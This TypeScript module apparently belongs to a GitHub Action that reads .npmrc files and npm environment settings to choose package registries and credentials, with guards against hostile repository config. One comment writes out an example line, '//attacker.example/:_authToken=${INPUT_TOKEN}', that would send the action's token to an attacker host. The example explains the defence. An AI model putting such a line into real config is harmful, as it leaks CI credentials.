// npm configuration for registry look-ups: the repository's `.npmrc`, the user's `.npmrc` and the
// `npm_config_*` environment, reduced to what deciding where a package comes from and how to
// authenticate needs. Everything else npm reads from these files is ignored on purpose: a look-up
// must not read files named by config (certfile, cafile), run anything, or change behaviour in ways
// a pull request could use.
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { ScanError } from '../model/component.js';

export const PUBLIC_REGISTRY = 'https://registry.npmjs.org/';

/** `.npmrc` files are small; a larger one is not a config file. */
const MAX_NPMRC_BYTES = 256 * 1024;

/** The auth settings npm-registry-fetch reads for a registry (`//host/path/:<key>`). */
const AUTH_KEYS = ['_authToken', '_auth', 'username', '_password'] as const;

/**
 * Environment variables a repository's `.npmrc` may never expand: the action's inputs (the GitHub
 * token arrives as INPUT_TOKEN) and the runner's own credentials (ACTIONS_RUNTIME_TOKEN,
 * ACTIONS_ID_TOKEN_REQUEST_TOKEN). Without this, a pull request could add
 * `//attacker.example/:_authToken=${INPUT_TOKEN}` and have the gate send the token away.
 */
const FORBIDDEN_IN_PROJECT = /^(INPUT_|ACTIONS_)/i;

const SCOPE = /^@[a-z0-9][a-z0-9._~-]*$/i;

export type Env = Readonly<Record<string, string | undefined>>;

export interface NpmConfig {
  /** The registry for unscoped packages and scopes without their own, ending in `/`. */
  registry: string;
  /** Registries of scopes (`@scope` → URL ending in `/`). */
  scopes: Map<string, string>;
  /** Options for npm-registry-fetch: `//host/path/:_authToken` and the like. */
  auth: Map<string, string>;
  /** Every credential value, so messages can be checked and scrubbed. */
  secrets: string[];
  /** Problems in a config file that the scan must report (the gate fails closed on them). */
  errors: ScanError[];
}

export interface NpmConfigOptions {
  /** The scanned root: its `.npmrc` is the project config. */
  root: string;
  env: Env;
  /** `--registry` / the action's `registry` input: overrides the default registry (not scopes). */
  registry?: string;
  /**
   * The project `.npmrc` text to use instead of reading `root/.npmrc` (diff mode can pass the
   * base commit's, so a pull request cannot redirect look-ups); null means there is none.
   */
  projectNpmrc?: string | null;
}

interface Entry {
  key: string;
  value: string;
  line: number;
}

/** Parses `.npmrc` text (ini: `key = value`, `;`/`#` comments, quoted values) into entries. */
export function parseNpmrc(text: string): Entry[] {
  const entries: Entry[] = [];
  const lines = text.replace(/^\uFEFF/, '').split(/\r\n|\r|\n/);
  for (let i = 0; i < lines.length; i++) {
    const line = lines[i]!.trim();
    if (line === '' || line.startsWith(';') || line.startsWith('#') || line.startsWith('[')) continue;
    const eq = line.indexOf('=');
    const key = (eq < 0 ? line : line.slice(0, eq)).trim();
    let value = eq < 0 ? 'true' : line.slice(eq + 1).trim();
    if (value.length >= 2 && value.startsWith('"') && value.endsWith('"')) {
      try {
        const parsed: unknown = JSON.parse(value);
        if (typeof parsed === 'string') value = parsed;
      } catch {
        value = value.slice(1, -1);
      }
    } else if (value.length >= 2 && value.startsWith("'") && value.endsWith("'")) {
      value = value.slice(1, -1);
    }
    if (key !== '') entries.push({ key, value, line: i + 1 });
  }
  return entries;
}

type Expansion = { value: string } | { missing: string } | { forbidden: string };

/** npm's `${VAR}` expansion (`${VAR?}` is empty when unset, `\${` is literal). */
function expand(value: string, env: Env, project: boolean): Expansion {
  let missing: string | null = null;
  let forbidden: string | null = null;
  const out = value.replace(/(\\*)\$\{([^${}?]+)(\?)?\}/g, (whole, esc: string, name: string, optional) => {
    if (esc.length % 2 === 1) return whole.slice(1);
    if (project && FORBIDDEN_IN_PROJECT.test(name)) {
      forbidden ??= name;
      return '';
    }
    const v = env[name];
    if (v === undefined) {
      if (!optional) missing ??= name;
      return esc;
    }
    return esc + v;
  });
  if (forbidden !== null) return { forbidden };
  if (missing !== null) return { missing };
  return { value: out };
}

/** A registry URL normalised to end in `/`, or null when it is not an http(s) URL. */
export function normalizeRegistry(raw: string): string | null {
  let url: URL;
  try {
    url = new URL(raw.trim());
  } catch {
    return null;
  }
  if (url.protocol !== 'http:' && url.protocol !== 'https:') return null;
  url.hash = '';
  url.search = '';
  if (!url.pathname.endsWith('/')) url.pathname += '/';
  return url.toString();
}

/** A registry URL fit for messages: no credentials, query or fragment. */
export function displayRegistry(registry: string): string {
  try {
    const url = new URL(registry);
    url.username = '';
    url.password = '';
    url.search = '';
    url.hash = '';
    return url.toString();
  } catch {
    return '(invalid registry URL)';
  }
}

function readOptional(path: string): string | null {
  try {
    const buf = readFileSync(path);
    if (buf.length > MAX_NPMRC_BYTES) return null;
    return buf.toString('utf8');
  } catch {
    return null;
  }
}

function envValue(env: Env, name: string): string | undefined {
  const lower = name.toLowerCase();
  for (const [k, v] of Object.entries(env)) if (k.toLowerCase() === lower && v !== undefined) return v;
  return undefined;
}

/**
 * Reads the npm configuration that decides where packages are looked up, in npm's order of
 * precedence: `registry` option, `npm_config_*` environment, the project `.npmrc`, the user
 * `.npmrc` (`NPM_CONFIG_USERCONFIG`, else `$HOME/.npmrc` from `env`), the public registry.
 * Never reads the machine's home directory unless `env` names it.
 */
export function loadNpmConfig(options: NpmConfigOptions): NpmConfig {
  const { env } = options;
  const errors: ScanError[] = [];
  const secrets: string[] = [];
  const scopes = new Map<string, string>();
  const auth = new Map<string, string>();
  let registry: string | null = null;

  const userPath =
    envValue(env, 'npm_config_userconfig') ??
    (env.HOME ? join(env.HOME, '.npmrc') : env.USERPROFILE ? join(env.USERPROFILE, '.npmrc') : undefined);
  const projectText =
    options.projectNpmrc !== undefined ? options.projectNpmrc : readOptional(join(options.root, '.npmrc'));

  // Lowest precedence first; later layers overwrite.
  const layers: { text: string | null; project: boolean; file: string }[] = [
    { text: userPath ? readOptional(userPath) : null, project: false, file: userPath ?? '' },
    { text: projectText, project: true, file: '.npmrc' },
  ];
  for (const layer of layers) {
    if (layer.text === null) continue;
    for (const { key, value: raw, line } of parseNpmrc(layer.text)) {
      const isRegistry = key === 'registry' || (key.endsWith(':registry') && key.startsWith('@'));
      const authKey = AUTH_KEYS.find((k) => key.startsWith('//') && key.endsWith(':' + k));
      if (!isRegistry && !authKey) continue;
      const expanded = expand(raw, env, layer.project);
      if ('forbidden' in expanded) {
        // Only the repository's own file can be hostile; report it so the gate fails closed.
        errors.push({
          file: layer.file,
          line,
          message: `${key} expands \${${expanded.forbidden}}: a repository's .npmrc may not use the action's or runner's secrets; the setting is ignored`,
        });
        continue;
      }
      if ('missing' in expanded) continue; // npm would send the literal text; sending nothing is safer
      const value = expanded.value;
      if (isRegistry) {
        const url = normalizeRegistry(value);
        if (url === null) {
          if (layer.project)
            errors.push({
              file: layer.file,
              line,
              message: `${key} is not an http(s) URL; the setting is ignored`,
            });
          continue;
        }
        if (key === 'registry') registry = url;
        else {
          const scope = key.slice(0, -':registry'.length).toLowerCase();
          if (SCOPE.test(scope)) scopes.set(scope, url);
        }
      } else if (authKey && value !== '') {
        auth.set(key, value);
        secrets.push(value);
        if (authKey === '_auth') secrets.push(Buffer.from(value, 'base64').toString('utf8'));
        if (authKey === '_password') secrets.push(Buffer.from(value, 'base64').toString('utf8'));
      }
    }
  }

  for (const [k, v] of Object.entries(env)) {
    if (v === undefined) continue;
    const m = /^npm_config_(@[^:]+):registry$/i.exec(k);
    if (m && SCOPE.test(m[1]!)) {
      const url = normalizeRegistry(v);
      if (url) scopes.set(m[1]!.toLowerCase(), url);
    }
  }
  const envRegistry = envValue(env, 'npm_config_registry');
  if (envRegistry !== undefined && normalizeRegistry(envRegistry)) registry = normalizeRegistry(envRegistry);
  if (options.registry !== undefined) {
    const url = normalizeRegistry(options.registry);
    if (url === null) throw new Error(`registry "${options.registry}" is not an http(s) URL`);
    registry = url;
  }

  for (const url of [registry, ...scopes.values()]) {
    if (!url) continue;
    const u = new URL(url);
    if (u.password) secrets.push(decodeURIComponent(u.password));
  }

  return {
    registry: registry ?? PUBLIC_REGISTRY,
    scopes,
    auth,
    secrets: secrets.filter((s) => s.length >= 4),
    errors,
  };
}

/** The registry a package name is looked up in. */
export function registryFor(config: NpmConfig, name: string): string {
  if (name.startsWith('@')) {
    const scope = name.slice(0, name.indexOf('/')).toLowerCase();
    const url = config.scopes.get(scope);
    if (url) return url;
  }
  return config.registry;
}

/** Replaces every known credential in a message (defence in depth: messages are built without them). */
export function scrub(message: string, secrets: readonly string[]): string {
  let out = message;
  for (const s of secrets) if (out.includes(s)) out = out.split(s).join('***');
  return out;
}
